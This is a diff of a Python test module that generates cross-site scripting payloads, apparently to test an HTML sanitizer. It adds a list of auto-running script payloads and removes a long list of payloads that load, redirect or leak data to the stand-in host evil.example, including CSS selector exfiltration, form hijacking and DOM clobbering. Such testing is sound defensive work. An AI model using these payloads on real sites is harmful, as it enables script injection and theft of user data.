@@ -7,6 +7,8 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
+from tests.support.elsewhere import ELSEWHERE
+
 CALL = "alert(1)"
 
 _TAGS = [
@@ -290,6 +292,24 @@ _NEWER = [
     '*x*{{: onmouseover="{}"}}',
     '{{::options parse_block_html="true" /}} <b onclick={}>x</b>',
 ]
+# What a browser runs at once and without being touched.
+_AT_ONCE = [
+    "<img src onerror={}>",
+    "<iframe onload={}></iframe>",
+    "<style onload={}></style>",
+    "<link rel=stylesheet href=x onerror={}>",
+    "<link rel=stylesheet href='data:text/css,' onload={}>",
+    "<script src=x onerror={}></script>",
+    "<script src='data:text/javascript,' onload={}></script>",
+    "<script>eval('{}')</script>",
+    "<script>Function('{}')()</script>",
+    "<script>setTimeout('{}')</script>",
+    "<script>queueMicrotask(() => {})</script>",
+    "<script>`${{{}}}`</script>",
+    "<script>document.write('<img src=x onerror={}>')</script>",
+    "<script>document.body.innerHTML = '<img src=x onerror={}>'</script>",
+    "<script>location = 'javascript:{}'</script>",
+]
 # Attributes with names such as quotes left out in a title make them, and what hides beside those.
 _ODD_NAMES = [
     """<p x" y' title='" onclick={} z="'>x</p>""",
@@ -315,68 +335,6 @@ _ODD_NAMES = [
     """<p x" title='![x](y){{: onerror="{}"}}'>x</p>""",
     """<b x" style='"' autofocus tabindex=1 onfocus={}>x</b>""",
 ]
-# What runs nothing, but would go elsewhere, ask elsewhere or make other names of the page's own.
-_ELSEWHERE = [
-    '<script type=speculationrules>{"prerender":[{"urls":["https://evil.example/rules"]}]}</script>',
-    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
-    '<meta http-equiv=Content-Security-Policy content="img-src *">',
-    "<base href='https://evil.example/base/'><img src=b.gif><a href=c>x</a>",
-    "<link rel=stylesheet href='https://evil.example/style.css'>",
-    "<link rel=preload as=script href='https://evil.example/preload.js'>",
-    "<link rel=modulepreload href='https://evil.example/module.js'>",
-    "<link rel=prefetch href='https://evil.example/prefetch'>",
-    "<link rel=icon href='https://evil.example/icon.png'>",
-    "<link rel=manifest href='https://evil.example/manifest'>",
-    "<style>@import 'https://evil.example/import.css'; p {background:url(https://evil.example/p)}</style>",
-    "<style>input[value^=a] {background:url(https://evil.example/a)}</style><input value=abc>",
-    "<p style='background:url(https://evil.example/css1)'>x</p>",
-    "<p style='background:\\75rl(https://evil.example/css2)'>x</p>",
-    "<p style='display:list-item;list-style-image:url(//evil.example/css3)'>x</p>",
-    "<p style='background-image:image-set(\"https://evil.example/css4\" 1x)'>x</p>",
-    "<p style='--x:url(https://evil.example/css5);background:var(--x)'>x</p>",
-    "<p style='border:9px solid;border-image-source:url(https://evil.example/css6)'>x</p>",
-    "<p style='mask-image:url(https://evil.example/css7)'>x</p>",
-    "<p style='background:u/**/rl(x);background:URL(https://evil.example/css8)'>x</p>",
-    "<p style='content:url(https://evil.example/css9)'>x</p>",
-    "<p style='filter:url(https://evil.example/css10#f)'>x</p>",
-    "<svg><use href='https://evil.example/use.svg#x'></use></svg>",
-    "<svg><image href='https://evil.example/svg.png'></image></svg>",
-    "<svg><style>@import url(https://evil.example/svg.css);</style></svg>",
-    "<svg><filter><feImage href='https://evil.example/fe.png'></feImage></filter></svg>",
-    "<a href='https://ok.example/' ping='https://evil.example/ping'>x</a>",
-    "<a href='https://ok.example/' attributionsrc='https://evil.example/attribution'>x</a>",
-    "<img src='https://ok.example/a.jpg' attributionsrc='https://evil.example/attribution2'>",
-    "<table background='https://evil.example/table'><tr><td>x</td></tr></table>",
-    "<table><tr><td background='https://evil.example/td'>x</td></tr></table>",
-    "<body background='https://evil.example/body'>",
-    "<video autoplay muted src='https://evil.example/v.mp4'></video>",
-    "<video poster='https://evil.example/poster.jpg'></video>",
-    "<audio autoplay src='https://evil.example/a.mp3'></audio>",
-    "<video><track default src='https://evil.example/t.vtt'></video>",
-    "<object data='https://evil.example/object'></object>",
-    "<embed src='https://evil.example/embed'>",
-    "<input type=image src='https://evil.example/input.png'>",
-    "<iframe src='https://evil.example/frame'></iframe>",
-    "<iframe src='//evil.example/frame2' sandbox='allow-scripts allow-top-navigation'></iframe>",
-    "<iframe src='https://www.youtube.com@evil.example/'></iframe>",
-    "<iframe src='https://www.youtube.com.evil.example/'></iframe>",
-    "<iframe src='https:/\\evil.example/youtube.com'></iframe>",
-    "<iframe src='https://www.youtube.com/embed/x' allow='camera *; microphone *'></iframe>",
-    "<img srcset='https://evil.example/s1.jpg 1x'>",
-    "<img src='https://ok.example/a.jpg' srcset='https://evil.example/s2.jpg 9999w' sizes=100vw>",
-    "<picture><source srcset='https://evil.example/s3.jpg'><img src='https://ok.example/a.jpg'>",
-    "<img lowsrc='https://evil.example/low.gif' src='https://ok.example/a.jpg'>",
-    "<img src='https://ok.example/a.jpg' longdesc='https://evil.example/long'>",
-    "<form action='https://evil.example/form'><input name=q autofocus></form>",
-    "<button formaction='https://evil.example/formaction' form=f>x</button>",
-    "<img name=cookie><img name=getElementById><img name=body>",
-    "<iframe name=top src='https://www.youtube.com/embed/x'></iframe><a id=location href=x>x</a>",
-    "<form id=document><input name=body></form><a id=window href='https://evil.example/w'>x</a>",
-    "<p style='position:fixed;inset:0;background:white;z-index:9999'>x</p>",
-    "<a href='https://ok.example/' target=_blank rel=opener>x</a>",
-    "<a href='https://ok.example/' target=_top>x</a>",
-    "<marquee behavior=alternate>x</marquee><blink>x</blink>",
-]
 CUT_BY_CONTROLS = [
     "<img src=x o\x01nerror={}>",
     "<img src=x o\x7fnerror={}>",
@@ -394,9 +352,9 @@ def _payloads() -> Iterator[str]:
         yield from (place.format(scheme.format(CALL)) for scheme in _SCHEMES)
     yield from (
         element.format(*[CALL] * element.count("{}"))
-        for element in (*_ELEMENTS, *_NEWER, *_ODD_NAMES)
+        for element in (*_ELEMENTS, *_NEWER, *_AT_ONCE, *_ODD_NAMES)
     )
-    yield from _ELSEWHERE
+    yield from ELSEWHERE
     # A browser keeps 512 elements within each other; what lies deeper comes after.
     deep = "<div>" * 600
     yield f"{deep}<svg><style><a id='</style><img src=x onerror={CALL}>'>"
